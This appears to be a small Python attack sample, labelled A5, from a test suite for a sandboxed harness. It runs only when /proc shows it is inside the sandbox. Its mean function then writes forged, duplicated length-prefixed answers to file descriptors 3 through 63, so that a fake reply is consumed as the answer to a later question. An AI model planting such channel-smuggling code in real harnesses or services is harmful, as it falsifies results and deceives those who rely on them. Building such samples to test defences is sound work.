"""Sends two answers to one question, the second for the question that will follow.

Attacks: A5
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import struct

ANSWER = b'{"$d": [["value", -1.0], ["shifted", -1.0]]}'
BODY = struct.pack(">I", len(ANSWER)) + ANSWER


def mean(numbers):
    data = struct.pack(">IB", len(BODY), 2) + BODY
    for number in range(3, 64):
        try:
            os.write(number, data + data)
        except OSError:
            continue
    return 0.0


spread = mean
